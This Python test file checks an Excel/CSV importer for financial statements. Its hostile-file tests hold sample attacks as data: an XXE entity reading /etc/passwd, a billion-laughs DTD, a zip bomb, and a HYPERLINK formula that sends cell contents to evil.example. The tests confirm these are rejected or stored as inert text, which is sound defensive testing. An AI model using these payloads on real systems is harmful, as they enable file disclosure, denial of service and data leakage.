"""Uploads: every bad cell is reported where Excel shows it, good files give exact amounts."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import openpyxl
import polars as pl
import pytest
import xlsxwriter
from polars.testing import assert_frame_equal

from stateasset.ledger.catalogue import ITEMS
from stateasset.ledger.credit_code import check_character
from stateasset.ledger.importer import (
    MIB,
    ROW_SCHEMA,
    UploadError,
    UploadLimits,
    UploadTooLarge,
    parse_amount,
    parse_statement_upload,
    statement_template,
)
from stateasset.ledger.rules import check_statements

D = Decimal
HEADER = ["统一社会信用代码", "期间", "项目编码", "项目名称", "金额"]


def code_for(n: int) -> str:
    """A valid credit code for entity n (check character computed, not typed)."""
    first17 = f"9135010{n:010d}"
    return first17 + check_character(first17)


ENTITIES = {code_for(n): f"E{n:03d}" for n in range(250)}
CODE_A, CODE_B, CODE_C, CODE_D = (code_for(n) for n in range(4))


def xlsx(sheets: dict[str, list[list[object]]], hidden: tuple[str, ...] = ()) -> bytes:
    """An .xlsx with the given rows per sheet, written with xlsxwriter as Excel would store it."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    month = book.add_format({"num_format": "yyyy-mm"})  # what Excel shows for a typed 2025-09
    for name, rows in sheets.items():
        ws = book.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, str):
                    ws.write_string(r, c, value)
                elif isinstance(value, datetime):
                    ws.write_datetime(r, c, value, month)
                elif value is not None:
                    ws.write(r, c, value)
        if name in hidden:
            ws.hide()
    # Excel cannot hide the active sheet: make the first visible one active.
    next(ws for ws in book.worksheets() if ws.name not in hidden).activate()
    book.close()
    return buffer.getvalue()


# --- the 5,000-row long table ---------------------------------------------------------------

N_ITEMS = 20  # 250 entities × 20 items = 5,000 rows


def _amount_cents(i: int) -> int:
    # Spread over 0.00 .. 99,999,999.99 with every cent digit pattern; a few negatives.
    cents = (i * 7_919_017 + 12_345) % 10_000_000_000
    return -cents if i % 97 == 0 else cents


@pytest.fixture(scope="module")
def long_rows() -> list[list[object]]:
    rows: list[list[object]] = [HEADER]
    codes = list(ENTITIES)
    for i in range(5000):
        item = ITEMS[i % N_ITEMS]
        amount = float(D(_amount_cents(i)).scaleb(-2))  # stored as an Excel (binary) number
        rows.append([codes[i // N_ITEMS], "2025-09", item.code, item.label, amount])
    return rows


def test_long_table_with_three_bad_cells_reports_exactly_those(
    long_rows: list[list[object]],
) -> None:
    rows = [list(r) for r in long_rows]
    rows[100][2] = "cashh"  # Excel row 101, column C (项目编码)
    rows[2500][4] = "12,34O.00"  # Excel row 2501, column E (金额): letter O, not a zero
    rows[4998][4] = 12.345  # Excel row 4999, column E: three decimal places
    parsed = parse_statement_upload(xlsx({"数据": rows}), "quick.xlsx", ENTITIES)
    assert [(e.sheet, e.row, e.column, e.header) for e in parsed.errors] == [
        ("数据", 101, "C", "项目编码"),
        ("数据", 2501, "E", "金额"),
        ("数据", 4999, "E", "金额"),
    ]
    assert [e.reason for e in parsed.errors] == [
        "未知项目编码 unknown item code 'cashh'",
        "金额不是数字 amount is not a number: '12,34O.00'",
        "金额超过两位小数 amount has more than 2 decimal places: 12.345",
    ]
    assert str(parsed.errors[0]) == "数据!C101 (项目编码): 未知项目编码 unknown item code 'cashh'"
    assert not parsed.ok
    assert parsed.rows.height == 4997


def test_corrected_long_table_gives_5000_exact_rows(long_rows: list[list[object]]) -> None:
    parsed = parse_statement_upload(xlsx({"数据": long_rows}), "quick.xlsx", ENTITIES)
    assert parsed.errors == []
    assert parsed.rows.schema == pl.Schema(ROW_SCHEMA)
    assert parsed.rows.height == 5000
    expected_total = D(sum(_amount_cents(i) for i in range(5000))).scaleb(-2)
    assert parsed.rows["amount"].sum() == expected_total
    # Row by row too: each Decimal is exactly the cents we wrote.
    assert parsed.rows["amount"].to_list() == [D(_amount_cents(i)).scaleb(-2) for i in range(5000)]
    first = parsed.rows.row(0, named=True)
    assert first == {
        "entity_id": "E000",
        "credit_code": code_for(0),
        "period": "2025-09",
        "item": "cash",
        "amount": D(_amount_cents(0)).scaleb(-2),
    }


# --- exact values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (1234.56, D("1234.56")),
        (0.07, D("0.07")),
        (9999999999999.99, D("9999999999999.99")),  # 15 significant digits, as Excel keeps
        ("999999999999999999.99", D("999999999999999999.99")),  # the largest NUMERIC(20, 2)
        (-1234.5, D("-1234.50")),
        (100, D("100.00")),
        ("1,234,567.80", D("1234567.80")),
        (" 42 ", D("42.00")),
        ("1.230", D("1.23")),  # a trailing zero is not a third decimal
        ("-0", D("0.00")),
    ],
)
def test_amounts_are_exact(value: object, expected: D) -> None:
    amount, reason = parse_amount(value)
    assert reason is None
    assert amount == expected
    assert amount is not None and amount.as_tuple().exponent == -2


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("abc", "not a number"),
        ("1e5", "scientific notation"),
        ("1,23,4.00", "not a number"),
        (True, "not a number"),
        (datetime(2025, 9, 1), "a date"),
        (float("inf"), "not a number"),
        (0.125, "more than 2 decimal places"),
        (0.1 + 0.2, "more than 2 decimal places"),  # 0.30000000000000004 in binary
        ("1" * 19, "out of range"),  # NUMERIC(20, 2) holds 18 digits before the point
        (1e18, "out of range"),
    ],
)
def test_bad_amounts(value: object, reason: str) -> None:
    amount, why = parse_amount(value)
    assert amount is None
    assert why is not None and reason in why


def test_blank_amount_is_neither_value_nor_error() -> None:
    assert parse_amount(None) == (None, None)
    assert parse_amount("  ") == (None, None)


def test_exact_values_survive_an_excel_file() -> None:
    values = [1234.56, 0.01, 0.07, 987654321.99, 9999999999999.99, -0.5]
    rows = [HEADER] + [
        [CODE_A, "2025-09", item.code, None, v] for item, v in zip(ITEMS, values, strict=False)
    ]
    parsed = parse_statement_upload(xlsx({"Sheet1": rows}), "a.xlsx", ENTITIES)
    assert parsed.errors == []
    assert parsed.rows["amount"].to_list() == [
        D("1234.56"),
        D("0.01"),
        D("0.07"),
        D("987654321.99"),
        D("9999999999999.99"),
        D("-0.50"),
    ]


# --- the per-sheet template round trip ------------------------------------------------------

# The hand-balanced statement of test_rules (13,001.00 + 8,600.00 = 21,601.00), as typed.
FILLED = {
    "cash": "1000.00",
    "receivables": "2500.50",
    "inventory": "300.25",
    "long_term_equity_investment": "5000",
    "investment_property": "1200",
    "fixed_assets": "8000.75",
    "construction_in_progress": "3000",
    "intangible_assets": "499.50",
    "other_assets": "100",
    "total_assets": "21601.00",
    "short_term_borrowings": "2000",
    "payables": "3100.40",
    "long_term_borrowings": "6000",
    "bonds_payable": "1500",
    "other_liabilities": "400.60",
    "total_liabilities": "13001.00",
    "paid_in_capital": "7000",
    "capital_reserve": "1000",
    "retained_earnings": "600",
    "total_equity": "8600",
    "revenue": "62500",
    "operating_cash_flow": "6630.70",
    "investing_cash_flow": "-2000.00",
}
TYPED_AS_TEXT = "investing_cash_flow"  # a cell formatted as text still reads

TEMPLATE_ENTITIES = [
    (CODE_A, "城建投集团有限公司"),
    (CODE_B, "交通投"),
    (CODE_C, "某某县城市建设投资发展集团有限公司下属某某某某某某某某某某项目公司"),  # > 31 chars
    (CODE_D, "交通投"),  # same name as B: falls back to the credit code
]


def test_template_layout() -> None:
    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025-09", TEMPLATE_ENTITIES)))
    long_name = TEMPLATE_ENTITIES[2][1][:31]
    assert book.sheetnames == ["说明", "城建投集团有限公司", "交通投", long_name, CODE_D]
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert "财务快报填报模板（报告期 2025-09）" in book["说明"]["A1"].value
    ws = book["交通投"]
    assert [ws["A1"].value, ws["B1"].value, ws["A2"].value, ws["B2"].value] == [
        "统一社会信用代码",
        CODE_B,
        "期间",
        "2025-09",
    ]
    assert [c.value for c in ws[4]] == ["项目编码", "项目名称", "金额"]
    assert all(c.font.b for c in ws[4])
    rows = range(5, 5 + len(ITEMS))
    items = [(ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, 3).value) for r in rows]
    assert items == [(i.code, i.label, None) for i in ITEMS]
    assert ws.max_row == 4 + len(ITEMS)
    assert ws.column_dimensions["A"].width >= 30
    assert ws.column_dimensions["B"].width >= 24
    assert ws.column_dimensions["C"].width >= 20
    assert ws["C5"].number_format == "#,##0.00"


def test_template_round_trip() -> None:
    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025-09", TEMPLATE_ENTITIES)))
    filled = ((CODE_A, "城建投集团有限公司", 1), (CODE_D, CODE_D, 3))
    for _, sheet, multiplier in filled:
        ws = book[sheet]
        row_of = {ws.cell(r, 1).value: r for r in range(5, ws.max_row + 1)}
        for item, typed in FILLED.items():
            amount = D(typed) * multiplier
            ws.cell(row_of[item], 3).value = str(amount) if item == TYPED_AS_TEXT else float(amount)
    out = io.BytesIO()
    book.save(out)

    parsed = parse_statement_upload(out.getvalue(), "filled.xlsx", ENTITIES)
    assert parsed.errors == []
    # Untouched sheets (B, C) have no amounts: nothing to import from them, and no error.
    expected = pl.DataFrame(
        [
            (ENTITIES[code], code, "2025-09", item, D(typed) * k)
            for code, _, k in filled
            for item, typed in FILLED.items()
        ],
        schema=ROW_SCHEMA,
        orient="row",
    )
    assert_frame_equal(parsed.rows, expected)
    assert parsed.rows.filter(pl.col("item") == "total_assets")["amount"].to_list() == [
        D("21601.00"),
        D("64803.00"),
    ]
    # Both statements pass the 审核公式.
    assert check_statements(parsed.rows.drop("credit_code")).is_empty()


def test_template_refuses_bad_input() -> None:
    with pytest.raises(ValueError, match="not a period code"):
        statement_template("2025-9", TEMPLATE_ENTITIES)
    with pytest.raises(ValueError, match="checksum"):
        statement_template("2025-09", [(CODE_A[:-1] + "0", "x")])
    with pytest.raises(ValueError, match="given twice"):
        statement_template("2025-09", [(CODE_A, "x"), (CODE_A, "y")])


def test_template_sheet_names_are_cleaned() -> None:
    entities = [(CODE_A, "a/b:c*d?"), (CODE_B, "说明"), (CODE_C, "A/B:C*D?")]
    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025", entities)))
    # '说明' is reserved for the instructions; names clash case-insensitively.
    assert book.sheetnames == ["说明", "a_b_c_d_", CODE_B, CODE_C]


# --- the per-sheet layout: errors --------------------------------------------------------------


def per_sheet(code: object, period: object, items: list[list[object]]) -> list[list[object]]:
    return [
        ["统一社会信用代码", code],
        ["期间", period],
        [],
        ["项目编码", "项目名称", "金额"],
        *items,
    ]


def test_per_sheet_errors_are_located() -> None:
    bad_checksum = CODE_A[:-1] + ("0" if CODE_A[-1] != "0" else "1")
    unknown = code_for(9999)
    data = xlsx(
        {
            "说明": [["anything here is ignored", "cashh", "x"]],
            "一": per_sheet(
                bad_checksum,
                "2025-13",
                [
                    ["cash", "货币资金", 10.5],
                    ["revenue", "营业收入", None],  # blank: not reported, no error
                    ["goodwill", "商誉", 1],  # unknown item
                    [None, "无编码", 5],  # amount without an item code
                    ["inventory", "存货", "n/a"],
                ],
            ),
            "二": per_sheet(unknown, "2025-09", [["cash", "货币资金", 1]]),
            "三": per_sheet(
                CODE_A,
                datetime(2025, 9, 1),  # Excel turned '2025-09' into a date: read as the month
                [["cash", "货币资金", 1], ["cash", "货币资金", 2]],
            ),
            "四": per_sheet(CODE_A, "2025-09", [["cash", "货币资金", 3]]),
            "五": per_sheet(CODE_B, datetime(2025, 9, 30), [["cash", "货币资金", 3]]),
        }
    )
    parsed = parse_statement_upload(data, "sheets.xlsx", ENTITIES)
    located = [(e.sheet, e.row, e.column, e.header) for e in parsed.errors]
    assert located == [
        ("一", 1, "B", "统一社会信用代码"),
        ("一", 2, "B", "期间"),
        ("一", 7, "A", "项目编码"),
        ("一", 8, "A", "项目编码"),
        ("一", 9, "C", "金额"),
        ("二", 1, "B", "统一社会信用代码"),
        ("三", 6, "A", "项目编码"),
        ("四", 5, "A", "项目编码"),
        ("五", 2, "B", "期间"),
    ]
    reasons = [e.reason for e in parsed.errors]
    assert "checksum character" in reasons[0]
    assert "month must be 01..12" in reasons[1]
    assert reasons[2] == "未知项目编码 unknown item code 'goodwill'"
    assert reasons[3] == "项目编码为空 item code is missing"
    assert reasons[4] == "金额不是数字 amount is not a number: 'n/a'"
    assert "unknown credit code" in reasons[5]
    assert reasons[6].endswith("already given at 三!A5")
    assert reasons[7].endswith("already given at 三!A5")
    assert "period is a date (2025-09-30)" in reasons[8]
    # The one good row (三!5) is kept for a preview; callers store nothing while errors exist.
    assert parsed.rows.select("entity_id", "period", "item", "amount").rows() == [
        ("E000", "2025-09", "cash", D("1.00"))
    ]


def test_hidden_sheets_and_unrecognised_layouts() -> None:
    data = xlsx(
        {
            "lists": [["cash"], ["revenue"]],  # a hidden drop-down source: skipped
            "notes": [["某某说明文字"]],  # visible and not a statement: reported
            "blank": [],
            "ok": per_sheet(CODE_A, "2025", [["cash", "货币资金", 1]]),
        },
        hidden=("lists",),
    )
    parsed = parse_statement_upload(data, "x.xlsx", ENTITIES)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("notes", None, None)]
    assert "layout not recognised" in parsed.errors[0].reason
    assert parsed.rows.height == 1


def test_per_sheet_with_a_broken_header_row() -> None:
    rows = per_sheet(CODE_A, "2025-09", [["cash", "货币资金", 1]])
    rows[3] = ["编码", "名称", "数"]
    parsed = parse_statement_upload(xlsx({"s": rows}), "x.xlsx", ENTITIES)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("s", 4, "A")]
    assert "row 4 must be the header" in parsed.errors[0].reason


# --- the long table: more cases ----------------------------------------------------------------


def test_long_table_cell_checks() -> None:
    rows: list[list[object]] = [
        ["2025年9月财务快报"],  # a title row above the header is allowed
        ["序号", "credit_code", "Period", "item", "金额（元）", "备注"],
        [1, CODE_A, "2025-09", "cash", 1.5, "x"],
        [2, CODE_A, "2025-09", "revenue", None, None],  # empty amount: an error here
        [],  # blank line: skipped
        [3, code_for(9999), "2025-Q5", "bogus", 2.999, None],  # four bad cells
        [4, 91350100000000000.0, "2025-09", "cash", 1, None],  # code stored as a number
        [5, CODE_A.lower(), "2025-09", "cash", 2, None],  # lowercase accepted; duplicate
        [6, CODE_B, datetime(2025, 9, 1), "cash", 3, None],
        [7, CODE_B, 2025, "cash", 4, None],  # a year typed as a number
    ]
    parsed = parse_statement_upload(xlsx({"数据": rows}), "x.xlsx", ENTITIES)
    assert [(e.row, e.column, e.header) for e in parsed.errors] == [
        (4, "E", "金额"),
        (6, "B", "统一社会信用代码"),
        (6, "C", "期间"),
        (6, "D", "项目编码"),
        (6, "E", "金额"),
        (7, "B", "统一社会信用代码"),
        (8, "D", "项目编码"),
    ]
    reasons = [e.reason for e in parsed.errors]
    assert reasons[0] == "金额为空 amount is missing"
    assert "unknown credit code" in reasons[1]
    assert "stored as a number" in reasons[5]
    assert reasons[6].endswith("already given at 数据!D3")
    assert parsed.rows.select("entity_id", "period", "item", "amount").rows() == [
        ("E000", "2025-09", "cash", D("1.50")),
        ("E001", "2025-09", "cash", D("3.00")),
        ("E001", "2025", "cash", D("4.00")),
    ]


def test_long_table_missing_column() -> None:
    rows: list[list[object]] = [["统一社会信用代码", "期间", "金额"], [CODE_A, "2025-09", 1]]
    parsed = parse_statement_upload(xlsx({"数据": rows}), "x.xlsx", ENTITIES)
    assert [(e.row, e.column) for e in parsed.errors] == [(1, None)]
    assert parsed.errors[0].reason == "缺少列 missing columns: 项目编码"


def test_rows_are_counted_past_a_wrong_dimension_tag() -> None:
    rows: list[list[object]] = [HEADER, [CODE_A, "2025-09", "cash", None, 1]]
    rows += [[] for _ in range(10)] + [[CODE_A, "2025-09", "bad", None, 2]]  # row 13
    data = xlsx({"数据": rows})
    # Some producers write a wrong <dimension>; openpyxl read-only would stop at it.
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(patched, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body, n = re.subn(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:B2"/>', body)
                assert n == 1
            dst.writestr(info, body)
    parsed = parse_statement_upload(patched.getvalue(), "x.xlsx", ENTITIES)
    assert [(e.row, e.column) for e in parsed.errors] == [(13, "C")]


# --- CSV and files -------------------------------------------------------------------------


def _csv(lines: list[str]) -> str:
    return "\r\n".join(lines) + "\r\n"


CSV_LINES = [
    ",".join(HEADER),
    f"{CODE_A},2025-09,cash,货币资金,1234.56",
    f'{CODE_A},2025-09,receivables,应收款项,"1,000.10"',
    f"{CODE_A},2025-09,inventory,存货,1.001",
    f"{CODE_A},2025-09,nope,,5",
]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_in_the_encodings_excel_writes(encoding: str) -> None:
    parsed = parse_statement_upload(_csv(CSV_LINES).encode(encoding), "快报.CSV", ENTITIES)
    assert [(e.sheet, e.row, e.column, e.header) for e in parsed.errors] == [
        ("csv", 4, "E", "金额"),
        ("csv", 5, "C", "项目编码"),
    ]
    assert parsed.rows.select("item", "amount").rows() == [
        ("cash", D("1234.56")),
        ("receivables", D("1000.10")),
    ]


def test_csv_per_sheet_layout() -> None:
    lines = [f"统一社会信用代码,{CODE_B}", "期间,2025-Q3", "", "项目编码,项目名称,金额"]
    lines += ["revenue,营业收入,100.00", "net_profit,净利润,-5", "cash,货币资金,"]
    parsed = parse_statement_upload(_csv(lines).encode(), "b.csv", ENTITIES)
    assert parsed.errors == []
    assert parsed.rows.rows() == [
        ("E001", CODE_B, "2025-Q3", "revenue", D("100.00")),
        ("E001", CODE_B, "2025-Q3", "net_profit", D("-5.00")),
    ]


@pytest.mark.parametrize(
    ("data", "name", "reason"),
    [
        (b"", "empty.csv", "no statement data found"),
        (b"PK\x03\x04 not really a zip", "broken.xlsx", "not a readable .xlsx file"),
        (b"\xd0\xcf\x11\xe0", "old.xls", "save as .xlsx"),
        (b"hello", "statement.pdf", "unsupported file type"),
    ],
)
def test_unreadable_files(data: bytes, name: str, reason: str) -> None:
    parsed = parse_statement_upload(data, name, ENTITIES)
    assert parsed.rows.height == 0
    assert len(parsed.errors) == 1
    error = parsed.errors[0]
    assert (error.sheet, error.row, error.column) == (name, None, None)
    assert reason in error.reason


def test_upload_error_text() -> None:
    assert str(UploadError("s", 3, "E", "金额", "bad")) == "s!E3 (金额): bad"
    assert str(UploadError("f.xlsx", None, None, None, "bad")) == "f.xlsx: bad"


# --- hostile and oversized files -------------------------------------------------------------


def _rezip(data: bytes, edits: dict[str, bytes]) -> bytes:
    """`data` with the named members replaced (or added)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename not in edits:
                dst.writestr(info, src.read(info))
        for name, body in edits.items():
            dst.writestr(name, body)
    return out.getvalue()


def _sheet_xml(rows: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


SHEET1 = "xl/worksheets/sheet1.xml"


def test_a_cell_at_column_xfd_on_12000_rows_is_refused_before_reading() -> None:
    # 64 KiB on disk; a gap-filling reader would hold 12,000 × 16,384 cells.
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("数据")
    for row in range(12_000):
        sheet.write_number(row, 16_383, 1)
    book.close()
    assert len(buffer.getvalue()) < 70_000
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(buffer.getvalue(), "wide.xlsx", ENTITIES)
    assert (refused.value.limit, refused.value.value, refused.value.maximum) == (
        "columns",
        16_384,
        100,
    )
    assert str(refused.value) == (
        f"{SHEET1}!XFD1: columns reaches 16,384, over the limit of 100 "
        "(STATEASSET_UPLOAD_MAX_COLUMNS)"
    )


def test_rows_cells_sheets_and_sizes_are_bounded() -> None:
    data = xlsx({"数据": [HEADER, [CODE_A, "2025-09", "cash", None, 1]]})
    # One row numbered 1,048,576: the reader would yield a million empty rows before it.
    far = _rezip(data, {SHEET1: _sheet_xml('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')})
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(far, "far.xlsx", ENTITIES)
    assert (refused.value.limit, refused.value.value) == ("rows", 1_048_576)

    small = UploadLimits(cells=9, sheets=1, bytes=len(data))
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(data, "x.xlsx", ENTITIES, small)
    assert (refused.value.limit, refused.value.value, refused.value.maximum) == ("cells", 10, 9)

    two = xlsx({"a": [HEADER], "b": [HEADER]})
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(two, "x.xlsx", ENTITIES, UploadLimits(sheets=1))
    assert (refused.value.limit, refused.value.value) == ("sheets", 2)

    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(data, "x.xlsx", ENTITIES, UploadLimits(bytes=len(data) - 1))
    assert (refused.value.limit, refused.value.value) == ("bytes", len(data))

    # 4 MiB of one repeated byte compresses a thousandfold.
    bomb = _rezip(data, {"xl/padding.bin": b"\0" * (4 * 1024 * 1024)})
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(bomb, "bomb.xlsx", ENTITIES)
    assert refused.value.limit == "compression_ratio"
    assert refused.value.value > 100
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(bomb, "bomb.xlsx", ENTITIES, UploadLimits(uncompressed_bytes=MIB))
    assert (refused.value.limit, refused.value.where) == ("uncompressed_bytes", "xl/padding.bin")


def test_a_csv_of_newlines_stops_at_the_row_limit() -> None:
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(b"\n" * 300_000, "lines.csv", ENTITIES)
    assert (refused.value.limit, refused.value.value, refused.value.maximum) == (
        "rows",
        200_001,
        200_000,
    )
    wide = ("," * 150 + "\n").encode()
    with pytest.raises(UploadTooLarge) as refused:
        parse_statement_upload(wide, "wide.csv", ENTITIES)
    assert (refused.value.limit, refused.value.value) == ("columns", 151)


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    + "]>"
)


@pytest.mark.parametrize(
    ("member", "body", "reason"),
    [
        (
            SHEET1,
            _sheet_xml('<row r="1"><c r="A1"><v>1</v></row>'),
            "malformed XML (mismatched tag)",
        ),
        (
            SHEET1,
            _sheet_xml('<row r="1"><c r="A1" t="str"><v>&nope;</v></c></row>'),
            "undefined entity",
        ),
        (
            SHEET1,
            _sheet_xml('<row r="1"><c r="A1" t="str"><v>&lol9;</v></c></row>', _LAUGHS),
            "DTDs",
        ),
        (
            "xl/sharedStrings.xml",
            b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<si><t>&xxe;</t></si></sst>",
            "DTDs",
        ),
        ("xl/workbook.xml", b"<workbook>", "no element found"),
        (SHEET1, b'<?xml version="1.0" encoding="UT8"?><worksheet/>', "unknown encoding: UT8"),
        # Well-formed, but the sheet's text cells point past the shared strings.
        (
            "xl/sharedStrings.xml",
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "list index out of range",
        ),
    ],
)
def test_malformed_and_hostile_xml_is_a_file_error(member: str, body: bytes, reason: str) -> None:
    data = _rezip(xlsx({"数据": [HEADER, [CODE_A, "2025-09", "cash", None, 1]]}), {member: body})
    parsed = parse_statement_upload(data, "evil.xlsx", ENTITIES)
    assert parsed.rows.height == 0
    assert [(e.sheet, e.row) for e in parsed.errors] == [("evil.xlsx", None)]
    assert parsed.errors[0].reason.startswith("无法读取的Excel文件 not a readable .xlsx file: ")
    assert reason in parsed.errors[0].reason
    if "index" not in reason:  # found by the scan, which names the member; openpyxl does not
        assert f"file: {member}: " in parsed.errors[0].reason


def test_formula_cells_without_a_saved_value_are_errors_naming_the_cell() -> None:
    # openpyxl writes formulas without results, as do many generators.
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "数据"
    sheet.append(HEADER)
    sheet.append([CODE_A, "2025-09", "cash", None, 100])
    sheet.append([CODE_A, "2025-09", "receivables", None, "=E2*2"])
    buffer = io.BytesIO()
    book.save(buffer)
    parsed = parse_statement_upload(buffer.getvalue(), "f.xlsx", ENTITIES)
    assert [str(e) for e in parsed.errors] == [
        "数据!E3: 公式没有计算结果 formula =E2*2 has no saved value (the file was written by a "
        "program that does not calculate): open and save it in Excel or WPS, or type the number"
    ]
    assert parsed.rows["item"].to_list() == ["cash"]

    # The per-sheet layout skips blank amounts: a formula there must not vanish either.
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "A"
    for row in per_sheet(CODE_A, "2025-09", [["cash", "货币资金", "=1+1"]]):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    parsed = parse_statement_upload(buffer.getvalue(), "f.xlsx", ENTITIES)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("A", 5, "C")]

    # A formula Excel calculated and saved is read by its value.
    data = xlsx({"数据": [HEADER, [CODE_A, "2025-09", "cash", None, 1]]})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(SHEET1)
    xml, n = re.subn(
        rb"<c r=\"E2\"([^>]*)><v>1</v></c>", rb'<c r="E2"\1><f>0.5+0.5</f><v>1</v></c>', xml
    )
    assert n == 1
    parsed = parse_statement_upload(_rezip(data, {SHEET1: xml}), "f.xlsx", ENTITIES)
    assert parsed.errors == []
    assert parsed.rows["amount"].to_list() == [D("1.00")]


# --- what we write: sheet names and text cells --------------------------------------------------


def _utf16(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def test_template_sheet_names_fit_excel_in_utf16_and_stay_unique() -> None:
    emoji = "😀" * 16  # 16 characters, 32 UTF-16 units: xlsxwriter refused the whole template
    rare = "𠀀" * 20  # CJK Extension B, also outside the BMP
    family = "家" * 29 + "👨‍👩‍👧"  # a ZWJ sequence across the cut
    entities = [
        (CODE_A, emoji),
        (CODE_B, emoji + "!"),  # the same after the cut: the credit code instead
        (CODE_C, rare),
        (CODE_D, family),
        (code_for(4), "'[]:*?/\\'"),  # nothing but forbidden characters
        (code_for(5), "a\x00b\tc"),  # control characters are not allowed in the XML
        (code_for(6), "x" * 30 + "'y"),  # an apostrophe where the cut falls
        (code_for(7), "HISTORY"),  # reserved by Excel
        (code_for(8), code_for(9)),  # named like the next entity's code...
        (code_for(9), "history"),  # ...which this one needs
    ]
    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025", entities)))
    names = book.sheetnames[1:]
    assert names == [
        "😀" * 15,
        CODE_B,
        "𠀀" * 15,
        "家" * 29,
        "_______",
        "a_b_c",
        "x" * 30,
        code_for(7),
        code_for(9),
        code_for(9) + "~2",
    ]
    assert all(_utf16(n) <= 31 for n in names)
    assert len({n.casefold() for n in book.sheetnames}) == len(book.sheetnames)
    # Each sheet still belongs to its entity.
    assert [book[n]["B1"].value for n in names] == [code for code, _ in entities]


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1)"]


def test_template_writes_entity_names_as_text() -> None:
    entities = [(code_for(n), name) for n, name in enumerate(FORMULA_NAMES)]
    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025", entities)))
    for (_, name), sheet in zip(entities, book.worksheets[1:], strict=True):
        assert (sheet["B3"].value, sheet["B3"].data_type) == (name, "s")
    text = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert text and all(c.data_type in ("s", "n") for c in text)
